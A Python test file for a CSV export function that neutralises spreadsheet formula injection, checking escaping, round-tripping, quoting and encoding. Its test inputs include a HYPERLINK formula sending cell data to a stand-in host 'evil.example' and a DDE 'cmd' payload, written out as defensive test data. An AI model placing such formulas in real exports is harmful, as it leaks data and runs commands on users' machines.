"""Exports: no cell is a formula for any spreadsheet, and each can be had back."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onrecord.web.spreadsheet import CONTENT_TYPE, csv_octets, guarded, plain

TRICKY = st.text(alphabet="=+-@\t\r\n;,'\" \u200b\ufeff\x00＝ab1(", max_size=20)
TEXT = st.text(alphabet=st.characters(codec="utf-8"))


@pytest.mark.parametrize(
    "text",
    (
        '=HYPERLINK("https://evil.example/?"&A1,"see")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\xa0=1+1",
        "\x00=1+1",
        "＝1+1",
        "＠SUM(1)",
    ),
)
def test_what_would_begin_a_formula_gets_an_apostrophe(text: str) -> None:
    assert guarded(text).startswith("'")
    assert plain(guarded(text)) == text


@pytest.mark.parametrize("text", ("a;=1+1", "a\t=1+1", "a\r\n=1+1", "a; @SUM(1)", "a;;-1"))
def test_what_is_a_cell_for_programs_that_separate_otherwise_is_guarded(text: str) -> None:
    cells = re.split(r"[;\t\r\n]", guarded(text))
    assert not [each for each in cells if each.lstrip(" ").startswith(("=", "+", "-", "@"))]
    assert plain(guarded(text)) == text


@pytest.mark.parametrize(
    "text", ("", "Kim", "a-b@cust.example", "1 + 1 = 2", "3 - 4 (50 %)", "a, -b", "a\r\n\r\nb\tc", "it's")
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.one_of(TRICKY, TEXT))
def test_every_text_comes_back(text: str) -> None:
    assert plain(guarded(text)) == text


@given(TRICKY)
def test_no_cell_begins_a_formula_for_any_separator(text: str) -> None:
    for cell in re.split(r"[;\t\r\n]", guarded(text)):
        seen = cell.lstrip(" \x00\u200b\ufeff")
        assert not seen.startswith(tuple("=+-@＝"))


@given(st.lists(st.lists(st.one_of(TRICKY, TEXT), min_size=2, max_size=2), max_size=5))
def test_a_file_that_is_read_back_holds_the_same_rows(rows: list[list[str]]) -> None:
    octets = b"".join(csv_octets(["name", "subject"], rows))
    reader = csv.reader(io.StringIO(octets.decode("utf-8-sig"), newline=""), strict=True)
    assert [[plain(cell) for cell in row] for row in reader] == [["name", "subject"], *rows]


def test_a_file_is_marked_as_utf_8_quoted_and_has_line_ends_of_the_standard() -> None:
    octets = b"".join(csv_octets(["name", "size"], [['Zoë, "Z"\r\nx', -5], ["-5", 1.5], [None, None]]))
    assert octets == (b'\xef\xbb\xbf"name","size"\r\n"Zo\xc3\xab, ""Z""\r\nx",-5\r\n"\'-5",1.5\r\n"",""\r\n')
    assert CONTENT_TYPE.startswith("text/csv")


def test_headings_are_guarded_and_lone_surrogates_break_nothing() -> None:
    assert b"".join(csv_octets(["=a"], [["\ud800"]])) == b'\xef\xbb\xbf"\'=a"\r\n"?"\r\n'


def test_rows_are_written_as_they_come() -> None:
    lines = csv_octets(["a"], ([f"{number}"] for number in range(10**9)))
    assert [next(lines), next(lines)] == [b'\xef\xbb\xbf"a"\r\n', b'"0"\r\n']


@pytest.mark.parametrize("unit", ("=", "\t", " ", ";", "; ", "';", "\u200b", "\r\n"))
def test_hostile_text_is_read_in_one_pass(unit: str) -> None:
    text = unit * (1_000_000 // len(unit))
    assert plain(guarded(text)) == text
